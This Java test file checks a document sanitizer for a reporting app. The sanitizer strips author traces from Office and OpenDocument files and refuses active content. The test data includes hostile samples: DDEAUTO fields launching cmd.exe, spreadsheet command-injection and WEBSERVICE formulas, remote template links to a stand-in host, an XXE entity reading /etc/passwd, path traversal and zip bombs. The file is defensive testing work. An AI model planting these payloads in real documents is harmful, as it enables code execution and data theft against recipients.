package id.lapor.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Documents of office programs lose their authors and keep their words; what acts is refused. */
class OfficeTests {

  private static final String NAME = "Pelapor Kenari";

  @TempDir Path folder;

  private Path file(OfficeFile office) throws IOException {
    return Files.write(folder.resolve("sent"), office.bytes());
  }

  /** The parts of the clean copy. */
  private Map<String, String> clean(OfficeFile office) throws Exception {
    Path copy = folder.resolve("clean");
    Office.clean(file(office), copy);
    Map<String, String> parts = new LinkedHashMap<>();
    try (InputStream in = Files.newInputStream(copy);
        ZipInputStream zip = new ZipInputStream(in)) {
      for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
        parts.put(e.getName(), new String(zip.readAllBytes(), StandardCharsets.ISO_8859_1));
      }
    }
    return parts;
  }

  private @Nullable Unfit refused(OfficeFile office) throws IOException {
    Path sent = file(office);
    @Nullable Unusable e =
        catchThrowableOfType(Unusable.class, () -> Office.clean(sent, folder.resolve("clean")));
    return e == null ? null : e.why();
  }

  static Stream<Arguments> kinds() {
    return Stream.of(
        Arguments.of(FileKind.DOCX, OfficeFile.docx()),
        Arguments.of(FileKind.XLSX, OfficeFile.xlsx()),
        Arguments.of(FileKind.PPTX, OfficeFile.pptx()),
        Arguments.of(FileKind.ODT, OfficeFile.odt()),
        Arguments.of(FileKind.ODS, OfficeFile.ods("of:=SUM([.A1:.A2])")));
  }

  @ParameterizedTest
  @MethodSource("kinds")
  void areKnownByWhatTheySayInsideAndAreTheSameAfterwards(FileKind kind, OfficeFile office)
      throws Exception {
    assertThat(Office.kind(file(office))).contains(kind);
    clean(office);
    assertThat(Office.kind(folder.resolve("clean"))).contains(kind);
  }

  /** A letter by somebody who does not want to be known. */
  private static OfficeFile signed() {
    String by = " w:author=\"" + NAME + "\" w:date=\"2026-01-05T08:00:00Z\"";
    String words = "<w:r><w:t xml:space=\"preserve\"> Jalan &lt;rusak&gt; </w:t></w:r>";
    String text = "<w:p w:rsidR=\"00A1\"><w:ins" + by + ">" + words + "</w:ins></w:p>";
    String comment = "<w:comment w:initials=\"PK\"" + by + "><w:t>Cek &amp; foto</w:t></w:comment>";
    String sessions = "<w:s xmlns:w=\"w\"><w:rsids><w:r w:val=\"00A1\"/></w:rsids></w:s>";
    return OfficeFile.docx()
        .with("docProps/core.xml", "<c><creator>" + NAME + "</creator></c>")
        .with("docProps/app.xml", "<p><Company>" + NAME + "</Company></p>")
        .with("docProps/custom.xml", "<p>" + NAME + "</p>")
        .with("docProps/thumbnail.jpeg", HostileFile.picture("jpeg"))
        .with("customXml/item1.xml", "<a>" + NAME + "</a>")
        .with("docMetadata/LabelInfo.xml", "<a>" + NAME + "</a>")
        .with("word/people.xml", "<p>" + NAME + "</p>")
        .with("word/settings.xml", sessions)
        .with("word/comments.xml", "<w:c xmlns:w=\"w\">" + comment + "</w:c>")
        .with("word/document.xml", OfficeFile.text(text + OfficeFile.field(" PAGE ")))
        .with("word/media/image1.jpg", HostileFile.withPosition(HostileFile.picture("jpeg")));
  }

  @Test
  void keepTheirWordsAndLoseTheirAuthors() throws Exception {
    Map<String, String> parts = clean(signed());
    assertThat(parts.values()).noneMatch(p -> p.contains("Kenari") || p.contains("00A1"));
    assertThat(parts.values()).noneMatch(p -> p.contains("Exif") || p.contains("2026-01-05"));
    assertThat(parts.keySet())
        .contains("docProps/core.xml", "word/comments.xml", "word/media/image1.jpg")
        .doesNotContain("docProps/custom.xml", "docProps/thumbnail.jpeg", "customXml/item1.xml");
    assertThat(parts.get("[Content_Types].xml")).doesNotContain("custom").contains("document.xml");
    assertThat(parts.get("word/document.xml"))
        .contains("xml:space=\"preserve\"> Jalan &lt;rusak&gt; </w:t>", "PAGE");
    assertThat(parts.get("word/comments.xml")).contains("Cek &amp; foto", "w:author=\"-\"");
  }

  /** What sheets and slides know their authors by; NAME stands for the name. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "XLSX | xl/comments1.xml | <authors><author>NAME</author></authors>",
        "XLSX | xl/persons/person.xml | <p>NAME</p>",
        "XLSX | xl/threadedComments/threadedComment1.xml | <p>NAME</p>",
        "XLSX | xl/pivotCache/pivotCacheDefinition1.xml | <p refreshedBy='NAME'/>",
        "XLSX | xl/workbook.xml | <a:absPath xmlns:a='a' url='C:\\Users\\NAME'/>",
        "XLSX | xl/workbook.xml | <fileSharing userName='NAME'/>",
        "PPTX | ppt/commentAuthors.xml | <p:cmAuthor xmlns:p='p' name='NAME' initials='NAME'/>",
        "PPTX | ppt/authors.xml | <p:author xmlns:p='p' name='NAME' userId='NAME'/>",
        "PPTX | ppt/changesInfos/changesInfo1.xml | <p>NAME</p>"
      })
  void loseTheAuthorsOfSheetsAndSlides(FileKind kind, String part, String content)
      throws Exception {
    OfficeFile office = of(kind).with(part, "<root>" + content.replace("NAME", NAME) + "</root>");
    assertThat(clean(office).values()).noneMatch(p -> p.contains("Kenari"));
  }

  @Test
  void loseTheAuthorsOfOpenDocuments() throws Exception {
    String annotation = "<dc:creator>" + NAME + "</dc:creator><text:p>Catatan</text:p>";
    String field = "<text:author-name>" + NAME + "</text:author-name>";
    Map<String, String> open =
        clean(
            OfficeFile.open(
                    FileKind.ODT,
                    "<office:annotation>" + annotation + "</office:annotation>" + field)
                .with("meta.xml", "<m>" + NAME + "</m>")
                .with("settings.xml", "<m>" + NAME + "</m>")
                .with("Thumbnails/thumbnail.png", HostileFile.picture("png")));
    assertThat(open.values()).noneMatch(p -> p.contains("Kenari"));
    assertThat(open.keySet()).startsWith("mimetype").doesNotContain("Thumbnails/thumbnail.png");
    assertThat(open.get("META-INF/manifest.xml")).contains("meta.xml").doesNotContain("Thumbnails");
    assertThat(open.get("content.xml")).contains("Catatan");
  }

  private static OfficeFile of(FileKind kind) {
    return switch (kind) {
      case XLSX -> OfficeFile.xlsx();
      case PPTX -> OfficeFile.pptx();
      case ODT -> OfficeFile.odt();
      default -> OfficeFile.docx();
    };
  }

  /** Macros, embedded files, data from elsewhere, and whatever nobody knows. */
  @ParameterizedTest
  @CsvSource({
    "DOCX, word/vbaProject.bin",
    "DOCX, word/embeddings/oleObject1.bin",
    "DOCX, word/embeddings/buku.xlsx",
    "DOCX, word/activeX/activeX1.xml",
    "DOCX, word/baru.dat",
    "DOCX, ../etc/x.xml",
    "DOCX, /etc/x.xml",
    "DOCX, word/media/image1.svg",
    "DOCX, word/media/image1.emf",
    "XLSX, xl/externalLinks/externalLink1.xml",
    "XLSX, xl/connections.xml",
    "XLSX, xl/queryTables/queryTable1.xml",
    "XLSX, xl/macrosheets/sheet1.xml",
    "PPTX, ppt/media/media1.mp4",
    "PPTX, ppt/embeddings/oleObject1.bin",
    "ODT, Basic/Standard/Module1.xml",
    "ODT, Scripts/python/a.py",
    "ODT, Object 1/content.xml"
  })
  void areNotTakenWithPartsThatAct(FileKind kind, String part) throws Exception {
    assertThat(refused(of(kind).with(part, "<a/>"))).isEqualTo(Unfit.ACTIVE);
  }

  @ParameterizedTest
  @CsvSource({
    "settings, attachedTemplate, https://jahat.example/a.dotm",
    "document, image, https://jahat.example/a.png",
    "document, oleObject, file:///C:/a.xlsx",
    "document, subDocument, lain.docx",
    "webSettings, frame, https://jahat.example/",
    "document, hyperlink, file:///C:/Windows/System32/calc.exe",
    "document, hyperlink, \\\\10.0.0.7\\bagi\\a.docx",
    "document, hyperlink, javascript:alert(1)"
  })
  void areNotTakenWithLinksThatFetchOrStart(String part, String kind, String target)
      throws Exception {
    OfficeFile office =
        OfficeFile.docx().relations("word/_rels/" + part + ".xml.rels", kind, target, true);
    assertThat(refused(office)).isEqualTo(Unfit.ACTIVE);
  }

  static Stream<String> fields() {
    String begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    return Stream.of(
        OfficeFile.field(" DDEAUTO c:\\cmd.exe \"/k calc\""),
        OfficeFile.field(" D", "DE", "AUTO cmd"),
        begin + OfficeFile.field(" PAGE ") + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
        OfficeFile.field(" INCLUDETEXT \"https://jahat.example/a\""),
        OfficeFile.field(" HYPERLINK \"file:///c:/a.exe\""),
        begin + "<w:r><w:instrText> DDE a b</w:instrText></w:r>",
        "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https://jahat.example/a&quot;\"/>",
        "<w:fldSimple w:instr='HYPERLINK \"\\\\10.0.0.7\\bagi\\a\"'/>",
        "<w:object/>",
        "<w:altChunk/>");
  }

  @ParameterizedTest
  @MethodSource("fields")
  void areNotTakenWithWordsThatFetchOrStart(String body) throws Exception {
    OfficeFile office = OfficeFile.docx().with("word/document.xml", OfficeFile.text(body));
    assertThat(refused(office)).isEqualTo(Unfit.ACTIVE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(\"https://jahat.example\")",
        "1+webservice (A1)",
        "cmd|'/c calc'!A0",
        "RTD(\"a\",\"b\",\"c\")",
        "DDE(\"soffice\";\"a\";\"b\")"
      })
  void areNotTakenWithFormulasThatFetchOrStart(String formula) throws Exception {
    OfficeFile sheet = OfficeFile.xlsx();
    assertThat(refused(sheet.with("xl/worksheets/sheet1.xml", OfficeFile.cell(formula))))
        .isEqualTo(Unfit.ACTIVE);
    assertThat(refused(OfficeFile.ods("of:=" + formula.replace("\"", "&quot;"))))
        .isEqualTo(Unfit.ACTIVE);
  }

  /** Wherever a sheet has them. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<calculatedColumnFormula>WEB<!-- -->SERVICE(A1)</calculatedColumnFormula>",
        "<totalsRowFormula>WEBSERVICE(A1)</totalsRowFormula>",
        "<formula1><a>WEBSERVICE(A1)</a></formula1>",
        "<cfvo type='formula' val='WEBSERVICE(A1)'/>"
      })
  void areNotTakenWithSuchFormulasInTablesAndFormats(String element) throws Exception {
    OfficeFile table = OfficeFile.xlsx().with("xl/tables/table1.xml", "<t>" + element + "</t>");
    assertThat(refused(table)).isEqualTo(Unfit.ACTIVE);
  }

  /** A fraction in a text, and a rule of another name space. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<m:f xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\"><m:t>Image (x)</m:t></m:f>",
        "<m:f xmlns:m=\"http://purl.oclc.org/ooxml/officeDocument/math\"><m:t>Image (x)</m:t></m:f>",
        "<formula1><f>SUM(A1:A2)</f></formula1>"
      })
  void keepWhatOnlyLooksLikeAFormula(String element) throws Exception {
    OfficeFile office = OfficeFile.docx().with("word/document.xml", OfficeFile.text(element));
    assertThat(clean(office).get("word/document.xml")).contains(element);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script:event-listener/>",
        "<script:code/>",
        "<draw:object xlink:href=\"./Object 1\"/>",
        "<draw:plugin/>",
        "<draw:image xlink:href=\"https://jahat.example/a.png\"/>",
        "<draw:image xlink:href=\"../a.png\"/>",
        "<text:a xlink:href=\"vnd.sun.star.script:a\"/>",
        "<text:dde-connection-decl/>",
        "<table:table-source/>",
        "<table:named-expression table:expression='of:=WEBSERVICE([.A1])'/>",
        "<table:content-validation table:condition='of:WEBSERVICE([.A1])'/>",
        "<calcext:condition calcext:value='WEBSERVICE([.A1])'/>"
      })
  void areNotTakenWithOpenDocumentsThatFetchOrStart(String body) throws Exception {
    assertThat(refused(OfficeFile.open(FileKind.ODT, body))).isEqualTo(Unfit.ACTIVE);
  }

  @Test
  void areNotTakenWithSlidesThatStartNorWithEntitiesNorWithPicturesThatAreNone() throws Exception {
    String program = "<p:s xmlns:p=\"p\"><p:h action=\"ppaction://program\"/></p:s>";
    String entity = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>";
    assertThat(refused(OfficeFile.pptx().with("ppt/slides/slide1.xml", program)))
        .isEqualTo(Unfit.ACTIVE);
    assertThat(refused(OfficeFile.docx().with("word/document.xml", entity)))
        .isEqualTo(Unfit.ACTIVE);
    assertThat(refused(OfficeFile.docx().with("word/media/image1.png", "<svg></svg>")))
        .isEqualTo(Unfit.ACTIVE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"https://lapor.example/a?b=c", "mailto:a@b.example", "#bab-1"})
  void keepLinksPeopleFollow(String address) throws Exception {
    assertThat(
            clean(
                OfficeFile.docx()
                    .relations("word/_rels/document.xml.rels", "hyperlink", address, true)))
        .anySatisfy((_, part) -> assertThat(part).contains("Target=\"" + address + "\""));
  }

  @Test
  void unfoldWithinLimits() throws Exception {
    byte[] zeros = new byte[Office.MOST_UNFOLDED];
    assertThat(refused(OfficeFile.docx().with("word/media/image1.png", zeros)))
        .isEqualTo(Unfit.UNFOLDS);
    OfficeFile many = OfficeFile.docx();
    for (int i = 0; i <= Office.MOST_PARTS; i++) {
      many.with("word/header" + i + ".xml", "<a/>");
    }
    assertThat(refused(many)).isEqualTo(Unfit.UNFOLDS);
    assertThat(
            refused(
                OfficeFile.docx()
                    .with("word/media/image1.png", HostileFile.pngHeader(60_000, 60_000))))
        .isEqualTo(Unfit.TOO_MANY_PIXELS);
  }

  @Test
  void areRefusedWhenTheyAreLockedOrNoneAtAll() throws Exception {
    assertThat(
            refused(
                OfficeFile.odt()
                    .with(
                        "META-INF/manifest.xml", "<m:m xmlns:m=\"m\"><m:encryption-data/></m:m>")))
        .isEqualTo(Unfit.LOCKED);
    assertThat(refused(OfficeFile.docx().with("word/document.xml", "<w:document")))
        .isEqualTo(Unfit.DAMAGED);
    assertThat(Office.kind(Files.write(folder.resolve("zip"), HostileFile.zip("a.txt", "b"))))
        .isEmpty();
    Path macro =
        file(
            OfficeFile.docx()
                .with(
                    "[Content_Types].xml",
                    "<a b=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"));
    assertThat(catchThrowableOfType(Unusable.class, () -> Office.kind(macro)).why())
        .isEqualTo(Unfit.ACTIVE);
  }

  /** As another program reads it. */
  @Test
  void keepAWorkbookReadable() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (Workbook book = new Workbook(out, NAME, null)) {
      book.newWorksheet("Lampu").inlineString(0, 0, "Tiang 12");
    }
    Path sent = Files.write(folder.resolve("sent"), out.toByteArray());
    assertThat(Office.kind(sent)).contains(FileKind.XLSX);
    Path copy = folder.resolve("clean");
    Office.clean(sent, copy);
    try (ReadableWorkbook book = new ReadableWorkbook(copy.toFile());
        Stream<Row> rows = book.getFirstSheet().openStream()) {
      assertThat(rows.findFirst().orElseThrow().getCellText(0)).isEqualTo("Tiang 12");
    }
  }

  /** Pictures are the same, point by point. */
  @ParameterizedTest
  @ValueSource(strings = {"jpeg", "png"})
  void keepTheirPictures(String format) throws Exception {
    byte[] picture = HostileFile.picture(format);
    byte[] more = HostileFile.joined(picture, HostileFile.zip("a.txt", NAME));
    Map<String, String> parts =
        clean(
            OfficeFile.docx()
                .with("word/media/image1." + (format.equals("png") ? "png" : "jpg"), more));
    byte[] kept =
        parts.entrySet().stream()
            .filter(e -> e.getKey().contains("media"))
            .findFirst()
            .orElseThrow()
            .getValue()
            .getBytes(StandardCharsets.ISO_8859_1);
    assertThat(kept).hasSizeLessThanOrEqualTo(picture.length);
    assertThat(pixels(kept)).isEqualTo(pixels(picture));
  }

  private static int[] pixels(byte[] picture) throws IOException {
    var image = javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(picture));
    return image.getRGB(0, 0, image.getWidth(), image.getHeight(), null, 0, image.getWidth());
  }
}
